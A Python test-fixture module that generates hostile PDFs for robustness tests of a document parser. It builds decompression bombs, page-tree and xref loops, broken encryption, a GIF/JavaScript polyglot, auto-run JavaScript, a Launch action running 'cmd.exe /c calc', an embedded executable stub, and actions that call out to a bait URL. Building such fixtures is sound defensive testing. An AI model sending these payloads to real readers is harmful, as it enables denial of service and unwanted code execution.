"""PDF files that bite."""

from __future__ import annotations

import io
import unicodedata
import zlib
from collections.abc import Iterator, Sequence

from fpdf import FPDF

from tests.hostile.bites import Bait, Bite, bite, sentence
from tests.hostile.packing import swollen

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_OR_NOT = "?"


def all_of_them() -> Iterator[Bite]:
    """Every one of them."""
    yield from _locked()
    yield from _loops()
    yield from _bombs()
    yield from _reaching_out()
    whole = _pages_of_words(12)
    for tenth in range(1, 10):
        cut = whole[: len(whole) * tenth // 10]
        yield bite(f"cut-{tenth}.pdf", _OR_NOT, f"cut at {tenth} tenths", cut)
    yield bite(
        "gif.pdf", ".", "begins as a picture, goes on as a script", b"GIF89a=1;alert(1)//%PDF-1.7"
    )


def pdf(objects: Sequence[bytes], trailer: bytes = b"", after: bytes = b"") -> bytes:
    """A PDF of these objects; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, inside in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, inside)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\n" % (len(objects) + 1, trailer)
    return bytes(out + after + b"startxref\n%d\n%%%%EOF\n" % start)


def _shown() -> bytes:
    """Words of a page, in letters that every PDF reader has."""
    plain = unicodedata.normalize("NFD", sentence().replace("đ", "d")).encode("ascii", "ignore")
    return b"BT /F 12 Tf 50 700 Td (%b) Tj ET" % plain


def stream(data: bytes, about: bytes = b"") -> bytes:
    """An object that is a stream."""
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(data), about, data)


def one_page(
    content: bytes = b"",
    catalogue: bytes = b"",
    page: bytes = b"/MediaBox[0 0 595 842]",
    more: Sequence[bytes] = (),
    trailer: bytes = b"",
    after: bytes = b"",
) -> bytes:
    """A PDF of one page of words; further objects begin with number 6."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R%b/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>" % page,
        content or stream(_shown()),
        _FONT,
        *more,
    ]
    return pdf(objects, trailer, after)


def _pages_of_words(count: int) -> bytes:
    made = FPDF()
    made.set_font("helvetica", size=12)
    for number in range(count):
        made.add_page()
        for line in range(20):
            made.cell(
                0, 8, f"Trang {number} dong {line} noi ve doc sach", new_x="LMARGIN", new_y="NEXT"
            )
    return bytes(made.output())


def _locked() -> Iterator[Bite]:
    made = FPDF()
    made.set_font("helvetica", size=12)
    made.add_page()
    made.cell(text="Bi mat")
    made.set_encryption(owner_password="chu", user_password="khach")
    yield bite("khoa.pdf", "mật khẩu", "locked with a password", bytes(made.output()))
    odd = b"/Encrypt<</Filter/Standard/V 9/R 9/Length 99999/O()/U()/P 0>>/ID[<00><00>]"
    yield bite(
        "khoa-la.pdf", "mật khẩu|hỏng|khóa", "locked in a way nobody knows", one_page(trailer=odd)
    )


def _tree(levels: int, wide: int) -> bytes:
    """A tree of pages in which each level names the same node over and over."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>"]
    for level in range(levels):
        kids = b" ".join([b"%d 0 R" % (level + 3)] * wide)
        objects.append(b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, wide ** (levels - level)))
    here = levels + 2
    page = b"<</Type/Page/MediaBox[0 0 595 842]/Contents %d 0 R/Resources<</Font<</F %d 0 R>>>>>>"
    return pdf([*objects, page % (here + 1, here + 2), stream(_shown()), _FONT])


def _loops() -> Iterator[Bite]:
    yield bite("trang-50000.pdf", "trang|hỏng", "50,000 pages that are one", _tree(1, 50_000))
    yield bite(
        "trang-10-mu-9.pdf", "trang|hỏng|quá", "a milliard of pages that are one", _tree(9, 10)
    )
    ring = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 3>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 3 0 R/Count 2>>",
    ]
    yield bite("vong-trang.pdf", "trang|hỏng|quá", "pages that hold each other", pdf(ring))
    yield bite(
        "vong-prev.pdf",
        _OR_NOT,
        "a list of objects that follows itself",
        one_page(trailer=b"/Prev 15"),
    )
    itself = one_page(trailer=b"/Prev %d")
    start = itself.rfind(b"xref\n0")
    turned = itself.replace(b"/Prev %d", b"/Prev %d" % start)
    yield bite("vong-xref.pdf", _OR_NOT, "a list of objects that names itself", turned)
    own = b"<</Length 4 0 R>>\nstream\nx\nendstream"
    yield bite("vong-do-dai.pdf", _OR_NOT, "a stream whose length is itself", one_page(own))
    form = stream(
        b"/X Do " * 20,
        b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>",
    )
    page = b"/MediaBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>/Font<</F 5 0 R>>>>"
    yield bite(
        "vong-hinh.pdf", _OR_NOT, "a form that draws itself twenty times",
        one_page(stream(_shown() + b" /X Do"), page=page, more=[form]),
    )  # fmt: skip


def _bombs() -> Iterator[Bite]:
    packed = swollen("", 1024).packed
    wrapped = b"\x78\x9c" + packed + b"\x00\x00\x00\x00"
    flate = b"/Filter/FlateDecode"
    yield bite(
        "bom.pdf", _OR_NOT, "a page of a gigabyte of blanks", one_page(stream(wrapped, flate))
    )
    twice = stream(zlib.compress(wrapped, 9), b"/Filter[/FlateDecode/FlateDecode]")
    yield bite("bom-kep.pdf", _OR_NOT, "the same, packed twice", one_page(twice))
    inside = stream(wrapped, b"/Type/ObjStm/N 10/First 100/Filter/FlateDecode")
    yield bite(
        "bom-objstm.pdf", _OR_NOT, "objects packed into a gigabyte of blanks",
        one_page(b"6 0 R", more=[inside], trailer=b"/Info 6 0 R"),
    )  # fmt: skip
    table = stream(wrapped, b"/Type/XRef/Size 100000000/W[1 9 9]/Root 1 0 R/Filter/FlateDecode")
    start = b"%PDF-1.7\n1 0 obj\n" + table + b"\nendobj\nstartxref\n9\n%%EOF\n"
    yield bite("bom-xref.pdf", _OR_NOT, "a list of a hundred million objects", start)
    huge = b"/MediaBox[-1e9 -1e9 1e9 1e9]/UserUnit 10000"
    yield bite("kho-giay.pdf", _OR_NOT, "a page as large as a country", one_page(page=huge))
    paths = stream(zlib.compress(b"0 0 m 9 9 l S\n" * 1_000_000 + _shown()), flate)
    yield bite("net.pdf", _OR_NOT, "a million strokes", lambda _: one_page(paths))
    words = stream(zlib.compress(b"BT /F 1 Tf 5 5 Td (a) Tj ET\n" * 1_000_000), flate)
    yield bite("chu.pdf", _OR_NOT, "a million words of one letter", lambda _: one_page(words))
    deep = b"[" * 100_000 + b"]" * 100_000
    yield bite(
        "ngoac.pdf", _OR_NOT, "a list in a list, 100,000 deep", one_page(catalogue=b"/A" + deep)
    )
    many = b"".join(b"%d 0 obj\nnull\nendobj\n" % n for n in range(6, 200_000))
    yield bite("khong-bang.pdf", _OR_NOT, "200,000 objects and no list", one_page(after=many)[:-30])
    about = b"/Type/XObject/Subtype/Image/Width 50000/Height 50000/BitsPerComponent 8"
    image = stream(wrapped, about + b"/ColorSpace/DeviceRGB/Filter/FlateDecode")
    page = b"/MediaBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>/Font<</F 5 0 R>>>>"
    drawn = stream(_shown() + b" q 500 0 0 500 0 0 cm /X Do Q")
    yield bite(
        "hinh.pdf",
        _OR_NOT,
        "a picture of 50,000 by 50,000",
        one_page(drawn, page=page, more=[image]),
    )
    fonts = stream(b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange "
                   b"<00000000> <ffffffff> <0041> endbfrange endcmap")  # fmt: skip
    font = b"<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/A/ToUnicode 6 0 R>>>>>>"
    page = b"/MediaBox[0 0 595 842]/Resources" + font
    yield bite(
        "bang-chu.pdf",
        _OR_NOT,
        "a table of four milliard letters",
        one_page(page=page, more=[fonts]),
    )


def _reaching_out() -> Iterator[Bite]:
    script = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://a'\\))>>"
    yield bite(
        "js.pdf",
        "",
        "a script: its words are read, the original is not kept",
        one_page(catalogue=script),
    )
    packed = stream(
        zlib.compress(b"7 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"),
        b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
    )
    hidden = one_page(catalogue=b"/OpenAction 7 0 R", more=[packed])
    yield bite("js-giau.pdf", "", "a script in packed objects: as above", hidden)
    false = one_page(after=b"stream\n" * 1_000_000)
    yield bite("luong-gia.pdf", "?", "a million streams begin, none ends", false)
    launch = b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    yield bite("launch.pdf", "", "starts a program: as above", one_page(catalogue=launch))
    inside = stream(b"MZ\x90\x00" + bytes(500), b"/Type/EmbeddedFile")
    files = b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>"
    yield bite(
        "exe-trong.pdf",
        "chương trình",
        "holds a program; its words are read",
        one_page(catalogue=files, more=[inside]),
    )

    def calling(bait: Bait) -> bytes:
        address, path = bait.url.encode(), str(bait.file).encode()
        content = (
            b"<</Length 0/F<</FS/URL/F(%b)>>/FFilter/FlateDecode>>\nstream\n\nendstream" % address
        )
        action = b"/OpenAction<</S/GoToR/F(%b)/D[0/Fit]>>/URI<</Base(%b)>>" % (path, address)
        form = b"/AcroForm<</XFA(<x href='%b'/>)/Fields[]>>" % address
        image = (
            b"<</Type/XObject/Subtype/Image/Width 9/Height 9/Length 0/F(%b)>>\nstream\n\nendstream"
        )
        return one_page(
            stream(_shown()), action + form, more=[content, image % path],
            page=b"/MediaBox[0 0 595 842]/AA<</O<</S/SubmitForm/F(%b)>>>>" % address,
        )  # fmt: skip

    yield bite("goi-ngoai.pdf", "", "reaches for files and addresses: nobody follows", calling)
    buffer = io.BytesIO(one_page())
    zipped = buffer.getvalue() + b"PK\x05\x06" + bytes(18)
    yield bite("zip.pdf", "", "a PDF that is a ZIP, too: read as the PDF it is called", zipped)
